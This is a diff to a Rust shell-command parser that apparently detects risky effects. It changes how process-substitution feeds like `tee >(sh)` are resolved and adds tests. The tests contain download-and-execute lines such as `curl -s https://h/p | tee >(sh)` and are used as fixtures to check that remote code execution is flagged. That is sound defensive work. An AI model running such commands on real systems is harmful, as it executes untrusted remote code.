@@ -17,6 +17,7 @@ mod launchers;
 mod netshell;
 mod normalize;
 mod options;
+mod progs;
 mod remote;
 mod script_patterns;
 mod scripts;
@@ -52,7 +53,8 @@ pub fn parse(text: &str) -> CommandLine {
         return line;
     }
     let mut walker = Walker::default();
-    walker.parse_into(text, 0);
+    // `text` passed `check_input` above: walk it without asking again.
+    walker.walk_text(text, 0);
     line.commands = walker.out;
     line.problems = walker.problems;
     line
@@ -135,6 +137,12 @@ pub(crate) struct Walker {
     pub(crate) names: normalize::Names,
     /// The whole-line dataflow state (files, descriptors, variables).
     pub(crate) flow: flow::Flow,
+    /// The name and input of the last command whose process-substitution
+    /// feed was not worked out yet: see [`Walker::note_proc_feed`].
+    feed_name: String,
+    feed_stdin: Option<Stdin>,
+    /// Whether `feed_name` is newer than `flow.proc_feed`.
+    feed_pending: bool,
 }
 
 /// The text being walked, and how deep in nested parses it sits.
@@ -157,6 +165,36 @@ impl Walker {
         }
     }
 
+    /// Records what a process substitution in `name`'s words would read
+    /// (`tee >(sh)`). Most commands have none: the name and input are kept
+    /// and the feed worked out only when one is read. That gives the same
+    /// feed as working it out now, since only a file input (`< f`) makes it
+    /// depend on the dataflow state, which changes as the walk goes on.
+    fn note_proc_feed(&mut self, name: &str, stdin: Option<&Stdin>) {
+        if matches!(stdin, Some(Stdin::File { .. })) {
+            self.feed_pending = false;
+            self.feed_stdin = None;
+            self.set_proc_feed(name, stdin);
+        } else {
+            self.feed_name.clear();
+            self.feed_name.push_str(name);
+            self.feed_stdin = stdin.cloned();
+            self.feed_pending = true;
+        }
+    }
+
+    /// What `>(…)` reads: the feed of the command whose words hold it.
+    fn proc_feed(&mut self) -> Option<Stdin> {
+        if self.feed_pending {
+            self.feed_pending = false;
+            let name = std::mem::take(&mut self.feed_name);
+            let stdin = self.feed_stdin.take();
+            self.set_proc_feed(&name, stdin.as_ref());
+            self.feed_name = name;
+        }
+        self.flow.proc_feed.clone()
+    }
+
     /// Parses `text` (a whole line, or a nested `sh -c` string) and walks it.
     pub(crate) fn parse_into(&mut self, text: &str, level: usize) {
         if level > MAX_LEVEL {
@@ -170,6 +208,11 @@ impl Walker {
             self.problem(p);
             return;
         }
+        self.walk_text(text, level);
+    }
+
+    /// Parses `text`, which passed [`check_input`], and walks it.
+    fn walk_text(&mut self, text: &str, level: usize) {
         let Some(tree) = parse_tree(text) else {
             self.problem(Problem::Unparseable(snippet(text)));
             return;
@@ -272,21 +315,30 @@ impl Walker {
     /// the chain in a loop, so a long flat chain is bounded by how many
     /// commands it runs (`MAX_COMMANDS`), not by nesting depth.
     fn list(&mut self, node: Node<'_>, src: Src<'_>, depth: usize, stdin: &mut Option<Stdin>) {
-        // The right-hand parts of each level, outermost first.
-        let mut rights: Vec<Vec<Node<'_>>> = Vec::new();
+        // The right-hand parts of each level, outermost first, in one run;
+        // `starts` holds where each level's parts begin in it.
+        let mut rights: Vec<Node<'_>> = Vec::new();
+        let mut starts: Vec<usize> = Vec::new();
         let mut head = node;
         let first = loop {
             let mut kids = head.named_children();
             let Some(first) = kids.next() else {
                 break None;
             };
-            rights.push(kids.collect());
+            starts.push(rights.len());
+            rights.extend(kids);
             if first.kind() != "list" {
                 break Some(first);
             }
             head = first;
         };
-        let parts = first.into_iter().chain(rights.into_iter().rev().flatten());
+        // Innermost level first, each level's parts in order.
+        let inner = (0..starts.len()).rev().flat_map(|level| {
+            let from = starts.get(level).copied().unwrap_or_default();
+            let to = starts.get(level + 1).copied().unwrap_or(rights.len());
+            rights.get(from..to).unwrap_or_default()
+        });
+        let parts = first.into_iter().chain(inner.copied());
         for part in parts {
             self.visit(part, src, depth + 1, stdin);
             if self.out.len() >= MAX_COMMANDS {
@@ -325,10 +377,10 @@ impl Walker {
             .filter(|b| b.kind() == "command")
             .and_then(|b| b.child_by_field_name("name"))
         {
-            self.set_proc_feed(src.of(name), input.as_ref());
+            self.note_proc_feed(src.of(name), input.as_ref());
         }
-        for (i, child) in node.children().enumerate() {
-            if node.field_name_for_child(i as u32) != Some("redirect") {
+        for child in node.children() {
+            if child.field_name() != Some("redirect") {
                 continue;
             }
             match child.kind() {
@@ -413,12 +465,12 @@ impl Walker {
         let dest = node.child_by_field_name("destination")?;
         let mut op = String::new();
         let mut fd = None;
-        for (i, child) in node.children().enumerate() {
+        for child in node.children() {
             if !child.is_named() {
                 op.push_str(src.of(child));
             } else if child.kind() == "file_descriptor" {
                 fd = src.of(child).parse().ok();
-            } else if node.field_name_for_child(i as u32) == Some("destination")
+            } else if child.field_name() == Some("destination")
                 && child.start_byte() > dest.start_byte()
             {
                 extra.push(child);
@@ -475,19 +527,19 @@ impl Walker {
         stdin: Option<Stdin>,
         extra: &[Node<'_>],
     ) {
-        let mut words = Vec::new();
+        let mut words = Vec::with_capacity(node.child_count());
         let mut extra = extra.to_vec();
         let mut template = SimpleCommand {
             redirects,
             stdin,
             ..SimpleCommand::default()
         };
-        for (i, child) in node.children().enumerate() {
-            match node.field_name_for_child(i as u32) {
+        for child in node.children() {
+            match child.field_name() {
                 Some("name") => {
                     let word = child.named_child(0).unwrap_or(child);
                     let name = self.word(word, src, depth);
-                    self.set_proc_feed(&name.text, template.stdin.as_ref());
+                    self.note_proc_feed(&name.text, template.stdin.as_ref());
                     words.push(name);
                 }
                 Some("argument") => words.push(self.word(child, src, depth)),
@@ -524,7 +576,10 @@ impl Walker {
 
     /// Reads a word's value, walking any substitutions inside it (they run too).
     fn word(&mut self, node: Node<'_>, src: Src<'_>, depth: usize) -> Arg {
-        let mut arg = Arg::lit(String::new());
+        // The value is rarely longer than the text it is read from.
+        let mut arg = Arg::lit(String::with_capacity(
+            node.end_byte().saturating_sub(node.start_byte()),
+        ));
         self.word_into(node, src, depth, &mut arg);
         arg
     }
@@ -536,7 +591,7 @@ impl Walker {
         }
         let text = src.of(node);
         match node.kind() {
-            "word" | "number" => arg.text.push_str(&word::unescape_bare(text)),
+            "word" | "number" => word::push_bare(&mut arg.text, text),
             "raw_string" => {
                 arg.text.push_str(
                     text.strip_prefix('\'')
@@ -544,7 +599,7 @@ impl Walker {
                         .unwrap_or(text),
                 );
             }
-            "string_content" => arg.text.push_str(&word::unescape_double(text)),
+            "string_content" => word::push_double(&mut arg.text, text),
             "ansi_c_string" => arg.text.push_str(&word::decode_ansi_c(text)),
             "string" | "concatenation" | "translated_string" => {
                 let mut any = false;
@@ -583,7 +638,7 @@ impl Walker {
                 let before = self.out.len();
                 // `tee >(sh)`: the inner command reads what the outer writes.
                 let mut feed = if text.starts_with(">(") {
-                    self.flow.proc_feed.clone()
+                    self.proc_feed()
                 } else {
                     None
                 };
@@ -659,3 +714,43 @@ fn snippet(text: &str) -> String {
 
 #[cfg(test)]
 mod tests;
+
+#[cfg(test)]
+mod feed_tests {
+    //! What `>(…)` reads is worked out only when one is read; these pin that
+    //! it is still the feed of the last command named before it.
+    use super::parse;
+    use crate::action::Effect;
+
+    fn runs_remote(line: &str, program: &str) -> bool {
+        parse(line).commands.iter().any(|c| {
+            c.program == program
+                && c.effects
+                    .iter()
+                    .any(|e| matches!(e, Effect::RunsRemoteCode { .. }))
+        })
+    }
+
+    #[test]
+    fn a_piped_command_feeds_its_own_process_substitution() {
+        assert!(runs_remote("curl -s https://h/p | tee >(sh)", "sh"));
+        assert!(!runs_remote("cat notes.txt | tee >(sh)", "sh"));
+    }
+
+    #[test]
+    fn a_redirection_of_a_group_reads_the_last_command_named() {
+        assert!(runs_remote(
+            "curl -s https://h/p | cat; { :; } > >(sh)",
+            "sh"
+        ));
+        assert!(!runs_remote("echo hi; { :; } > >(sh)", "sh"));
+    }
+
+    #[test]
+    fn a_file_input_is_read_where_the_command_is() {
+        assert!(runs_remote(
+            "curl -so dl.sh https://h/p; tee >(sh) < dl.sh",
+            "sh"
+        ));
+    }
+}
